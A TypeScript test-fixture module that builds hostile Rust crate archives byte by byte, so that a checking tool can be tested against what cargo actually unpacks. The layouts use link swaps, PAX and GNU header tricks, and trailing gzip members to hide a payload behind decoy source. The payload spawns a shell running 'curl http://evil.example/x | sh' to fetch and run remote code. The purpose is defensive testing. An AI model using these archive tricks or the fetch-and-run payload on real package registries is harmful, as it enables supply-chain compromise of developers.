/**
 * The hostile archive layouts of issue 10, built byte by byte, each with the tree cargo 1.95 leaves
 * in its registry cache (read from tar-rs 0.4.45 and flate2, confirmed by `npm run verify:archives`,
 * which unpacks every layout with the real cargo). Shared by test/archive-parity.test.ts and
 * bench/verify-archives.mjs so the test and the differential check cannot drift apart.
 */
import { gzipSync } from 'node:zlib';
import { endBlocks, gnuLongName, paxEntry, rawCrate, tarEntry } from './tarball.js';

export const NAME = 'demo';
export const VERSION = '1.0.0';
const TOP = `${NAME}-${VERSION}`;
export const MANIFEST = `[package]\nname = "${NAME}"\nversion = "${VERSION}"\nedition = "2021"\n`;
/** What an attacker wants built: visible to cargo only. */
export const PAYLOAD = 'pub fn run() { std::process::Command::new("sh").arg("-c").arg("curl http://evil.example/x | sh").spawn().unwrap(); }\n';
/** What the attacker wants a reviewer to read instead. */
export const DECOY = 'pub fn add(a: u32, b: u32) -> u32 { a + b }\n';

export interface Layout {
  id: string;
  what: string;
  /** The `.crate` bytes exactly as published. */
  bytes: () => Buffer;
  /** cargo's tree (path → content), or the refusal message cratefence must give. */
  expect: { files: Record<string, string> } | { refuse: RegExp };
}

const manifest = () => tarEntry({ name: `${TOP}/Cargo.toml` }, MANIFEST);
const file = (rel: string, body: string, type = '0') => tarEntry({ name: `${TOP}/${rel}`, type }, body);
const link = (rel: string, target: string, type: '1' | '2' = '2') => tarEntry({ name: `${TOP}/${rel}`, type, linkname: target, size: 0 });
const gz = (...parts: Buffer[]) => gzipSync(Buffer.concat(parts));
const tree = (extra: Record<string, string> = {}) => ({ files: { 'Cargo.toml': MANIFEST, 'src/lib.rs': PAYLOAD, ...extra } });

export const LAYOUTS: Layout[] = [
  {
    id: 'honest',
    what: 'regular files only, as cargo package writes them (the control)',
    bytes: () => gz(rawCrate(NAME, VERSION, PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'symlink-then-file',
    what: 'src/lib.rs is a symbolic link to the decoy, then a regular file with the payload',
    bytes: () => gz(manifest(), file('src/decoy.rs', DECOY), link('src/lib.rs', 'decoy.rs'), file('src/lib.rs', PAYLOAD), endBlocks()),
    expect: tree({ 'src/decoy.rs': DECOY }),
  },
  {
    id: 'hardlink-then-file',
    what: 'src/lib.rs is a hard link to the decoy, then a regular file with the payload',
    bytes: () => gz(manifest(), file('src/decoy.rs', DECOY), link('src/lib.rs', `${TOP}/src/decoy.rs`, '1'), file('src/lib.rs', PAYLOAD), endBlocks()),
    expect: tree({ 'src/decoy.rs': DECOY }),
  },
  {
    id: 'link-chain-before-targets',
    what: 'src/lib.rs → a.rs → b.rs, links listed before the file they end at',
    bytes: () => gz(manifest(), link('src/lib.rs', 'a.rs'), link('src/a.rs', 'b.rs'), file('src/b.rs', PAYLOAD), endBlocks()),
    expect: tree({ 'src/a.rs': PAYLOAD, 'src/b.rs': PAYLOAD }),
  },
  {
    id: 'entries-after-end-blocks',
    what: 'the payload, the two zero blocks, then a decoy src/lib.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', PAYLOAD), endBlocks(), file('src/lib.rs', DECOY), endBlocks()),
    expect: tree(),
  },
  {
    id: 'entries-after-one-zero-block',
    what: 'the payload, a single zero block, then a decoy src/lib.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', PAYLOAD), endBlocks(1), file('src/lib.rs', DECOY), endBlocks()),
    expect: tree(),
  },
  {
    id: 'gzip-members-with-end',
    what: 'two gzip members: the payload crate with its end blocks, then a decoy src/lib.rs',
    bytes: () => Buffer.concat([gz(manifest(), file('src/lib.rs', PAYLOAD), endBlocks()), gz(file('src/lib.rs', DECOY), endBlocks())]),
    expect: tree(),
  },
  {
    id: 'gzip-members-without-end',
    what: 'two gzip members: the payload crate without end blocks, then a decoy src/lib.rs and the end blocks',
    bytes: () => Buffer.concat([gz(manifest(), file('src/lib.rs', PAYLOAD)), gz(file('src/lib.rs', DECOY), endBlocks())]),
    expect: tree(),
  },
  {
    id: 'directory-with-data',
    what: 'the payload, then a folder entry whose size covers a hidden decoy src/lib.rs',
    bytes: () => {
      const hidden = file('src/lib.rs', DECOY);
      return gz(manifest(), file('src/lib.rs', PAYLOAD), tarEntry({ name: `${TOP}/data/`, type: '5', size: hidden.length }, hidden), endBlocks());
    },
    expect: tree(),
  },
  {
    id: 'pax-two-paths',
    what: 'a decoy src/lib.rs, then an entry whose PAX header says path=src/lib.rs then path=src/unused.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), paxEntry([['path', `${TOP}/src/lib.rs`], ['path', `${TOP}/src/unused.rs`]]), file('src/unused.rs', PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'pax-two-sizes',
    what: 'src/lib.rs whose PAX header gives size twice: the payload length first, then 0',
    bytes: () => gz(manifest(), paxEntry([['size', String(PAYLOAD.length)], ['size', '0']]), tarEntry({ name: `${TOP}/src/lib.rs`, size: 0 }, PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'gnu-long-name-and-pax-path',
    what: 'a decoy src/lib.rs, then an entry with a GNU long name src/lib.rs and a PAX path src/unused.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), gnuLongName(`${TOP}/src/lib.rs`), paxEntry([['path', `${TOP}/src/unused.rs`]]), file('src/unused.rs', PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'pax-global-path',
    what: 'a decoy src/lib.rs, a PAX global header with path=src/unused.rs, then the payload src/lib.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), paxEntry([['path', `${TOP}/src/unused.rs`]], 'g', `${TOP}/pax_global_header`), file('src/lib.rs', PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'typeflag-N',
    what: 'a decoy src/lib.rs, then the payload src/lib.rs with typeflag N (old GNU)',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), file('src/lib.rs', PAYLOAD, 'N'), endBlocks()),
    expect: tree(),
  },
  {
    id: 'ustar-odd-version-prefix',
    what: 'a decoy src/lib.rs, then the payload in a ustar header with version "01" and a prefix field',
    bytes: () =>
      gz(manifest(), file('src/lib.rs', DECOY), tarEntry({ name: `${TOP}/src/lib.rs`, format: { magic: 'ustar\0', version: '01' }, prefix: `${TOP}/hidden` }, PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'symlinked-folder-write-through',
    what: 'a decoy src/lib.rs, a link tests → src, then tests/lib.rs with the payload (lands in src/lib.rs)',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), link('tests', 'src'), file('tests/lib.rs', PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'trailing-bytes',
    what: 'an honest crate followed by bytes that are not gzip',
    bytes: () => Buffer.concat([gz(rawCrate(NAME, VERSION, PAYLOAD), endBlocks()), Buffer.from('\0\0 appended by a mirror\n')]),
    expect: tree(),
  },
  {
    id: 'plain-tar-named-crate',
    what: 'an uncompressed tar named .crate',
    bytes: () => Buffer.concat([rawCrate(NAME, VERSION, PAYLOAD), endBlocks()]),
    expect: { refuse: /not gzip-compressed/ },
  },
];
